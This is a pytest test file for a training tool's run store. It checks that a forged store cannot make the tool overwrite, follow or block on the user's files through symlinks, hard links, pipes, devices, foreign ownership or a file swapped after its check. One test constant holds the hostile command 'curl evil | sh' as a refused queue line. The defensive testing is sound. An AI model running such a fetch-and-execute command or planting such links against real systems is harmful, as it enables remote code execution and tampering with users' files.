"""A forged store: looking at it changes nothing, and a delivery touches no other file.

Its rows name directories. What lies there may be links to files of whoever looks, or pipes.
"""

from __future__ import annotations

import json
import os
import socket
import stat
import time

import pytest

from trainer.__main__ import main
from trainer.host.safe_open import UnsafeFile, make_own_folder, open_own_folder, open_regular
from trainer.runs import Store, deliver_queue

ROOT = os.geteuid() == 0
LINE = b'{"do": "records", "run": "one", "epoch": 1, "step": 1, "values": {"loss": 0.5}}\n'
QUEUE = b"0000000000000017\n" + LINE
REFUSED = b"0000000000000017\n" + b'{"do": "curl evil | sh"}\n'


@pytest.fixture
def planted(tmp_path, monkeypatch):
    """A directory that a store names as a run's, with the user's files elsewhere."""
    folder = tmp_path / "shared" / "one"
    folder.mkdir(parents=True)
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / "thesis.txt").write_bytes(REFUSED)
    monkeypatch.setenv("ENTRACTE_STORE", str(tmp_path / "shared"))
    monkeypatch.chdir(tmp_path)
    named(tmp_path, folder)
    return folder


def named(tmp_path, directory):
    """Let the store name a directory."""
    with Store(tmp_path / "shared") as store:
        store.register(
            "one", directory=str(directory), host=socket.gethostname(), pid=2**30, time=0.0
        )
        store.end("one", "finished", time=time.time())


def left(tmp_path):
    """Return all files but the store's, with contents, kinds and modes."""
    files = [path for path in tmp_path.rglob("*") if not path.name.startswith("store.sqlite")]
    return {
        path: (
            path.lstat().st_mode,
            path.read_bytes() if stat.S_ISREG(path.lstat().st_mode) else "",
        )
        for path in files
    }


def a_link(folder):
    (folder / "queue.jsonl").symlink_to(folder.parents[1] / "home" / "thesis.txt")


def a_hard_link(folder):
    os.link(folder.parents[1] / "home" / "thesis.txt", folder / "queue.jsonl")


def a_pipe(folder):
    os.mkfifo(folder / "queue.jsonl")


def a_device(folder):
    (folder / "queue.jsonl").symlink_to("/dev/zero")


def a_folder(folder):
    (folder / "queue.jsonl").mkdir()


def refused_to_a_link(folder):
    (folder / "queue.jsonl").write_bytes(REFUSED)
    (folder / "queue.refused.jsonl").symlink_to(folder.parents[1] / "home" / "thesis.txt")


def refused_to_a_pipe(folder):
    (folder / "queue.jsonl").write_bytes(REFUSED)
    os.mkfifo(folder / "queue.refused.jsonl")


def a_linked_directory(folder):
    """The row names a link, in its last part or before, to one of the user's directories."""
    (folder / "queue.jsonl").write_bytes(QUEUE)
    (folder.parents[1] / "linked").symlink_to(folder.parent)
    named(folder.parents[1], folder.parents[1] / "linked" / "one")


def a_relative_directory(folder):
    (folder / "queue.jsonl").write_bytes(QUEUE)
    named(folder.parents[1], "shared/one")


def a_foreign_queue(folder):
    (folder / "queue.jsonl").write_bytes(QUEUE)
    os.chown(folder / "queue.jsonl", 4321, 4321)


def a_foreign_directory(folder):
    (folder / "queue.jsonl").write_bytes(QUEUE)
    os.chown(folder, 4321, 4321)


PLANTED = [a_link, a_hard_link, a_pipe, a_device, a_folder, refused_to_a_link, refused_to_a_pipe]
PLANTED += [a_linked_directory, a_relative_directory]
PLANTED += [a_foreign_queue, a_foreign_directory] if ROOT else []


@pytest.mark.parametrize("plant", PLANTED)
def test_files_that_a_store_names_are_neither_written_nor_waited_for(
    planted, tmp_path, plant, capsys
):
    plant(planted)
    before = left(tmp_path)
    for words in (["runs"], ["show", "one"], ["watch", "--once"], ["doctor", "--quick"]):
        assert main(words) in (0, 1)
    assert left(tmp_path) == before
    main(["deliver"])
    lock = planted / "lock"
    after = {path: what for path, what in left(tmp_path).items() if path != lock}
    assert after == before
    with Store(tmp_path / "shared") as store:
        assert store.records("one") == []
        with pytest.raises((UnsafeFile, IsADirectoryError)):
            deliver_queue(store, store.run("one").directory)


def test_the_users_own_queue_is_delivered(planted, capsys):
    (planted / "queue.jsonl").write_bytes(QUEUE)
    assert main(["deliver"]) == 0
    assert capsys.readouterr().out == "one 1 line delivered\n"
    assert (planted / "queue.jsonl").read_bytes() == b"0000000000000017\n"


# The rule itself


def test_a_file_replaced_after_its_check_is_not_opened(tmp_path, monkeypatch):
    file, secret = tmp_path / "file", tmp_path / "secret"
    file.write_text("own")
    secret.write_text("secret")
    look = os.stat

    def exchange(path, **more):
        found = look(path, **more)
        file.unlink()
        file.symlink_to(secret)
        return found

    monkeypatch.setattr(os, "stat", exchange)
    with pytest.raises(OSError, match="symbolic links"):
        open_regular(file)


def test_links_are_followed_where_the_user_says_so(tmp_path):
    (tmp_path / "link").symlink_to(tmp_path / "file")
    (tmp_path / "file").write_text("own")
    os.close(open_regular(tmp_path / "link", follow=True))
    with pytest.raises(UnsafeFile, match="it is a link, and must be a regular file"):
        open_regular(tmp_path / "link")


@pytest.mark.parametrize("path", ["relative", "/tmp/../tmp"])
def test_a_folder_is_named_by_an_absolute_path_that_does_not_go_up(path):
    with pytest.raises(UnsafeFile, match=r"an absolute path without '\.\.'"):
        open_own_folder(path)


@pytest.mark.skipif(not ROOT, reason="only root can give files away")
def test_no_folder_is_made_in_another_users_folder(tmp_path):
    (tmp_path / "evaluations").mkdir()
    os.chown(tmp_path / "evaluations", 4321, 4321)
    with pytest.raises(UnsafeFile, match="it belongs to user 4321"):
        make_own_folder(tmp_path / "evaluations" / "full", tmp_path)
    assert list((tmp_path / "evaluations").iterdir()) == []


def test_no_folder_is_made_through_a_link(tmp_path):
    (tmp_path / "home").mkdir()
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "evaluations").symlink_to(tmp_path / "home")
    with pytest.raises(UnsafeFile, match="it leads through a link"):
        make_own_folder(tmp_path / "run" / "evaluations" / "full", tmp_path / "run")
    assert list((tmp_path / "home").iterdir()) == []


@pytest.mark.parametrize("to", ["sqlite:////elsewhere/store.sqlite", "postgresql://me@host/runs"])
def test_a_queue_for_another_store_is_not_taken_by_one_that_names_its_directory(
    planted, tmp_path, capsys, to
):
    line = {**json.loads(LINE), "of": str(planted), "to": to}
    (planted / "queue.jsonl").write_bytes(QUEUE[:17] + json.dumps(line).encode() + b"\n")
    before = (planted / "queue.jsonl").read_bytes()
    assert main(["deliver"]) == 1
    assert f"is for the store {to}: give that one" in capsys.readouterr().out
    assert (planted / "queue.jsonl").read_bytes() == before
    assert main(["deliver", str(planted)]) == 0  # as the user asks
    with Store(tmp_path / "shared") as store:
        assert len(store.records("one")) == 1


def test_a_directory_that_was_moved_with_its_store_is_delivered(planted, tmp_path, capsys):
    line = {**json.loads(LINE), "of": "/runs/one", "to": "sqlite:////runs/store.sqlite"}
    (planted / "queue.jsonl").write_bytes(QUEUE[:17] + json.dumps(line).encode() + b"\n")
    assert main(["deliver"]) == 0
    assert capsys.readouterr().out == "one 1 line delivered\n"
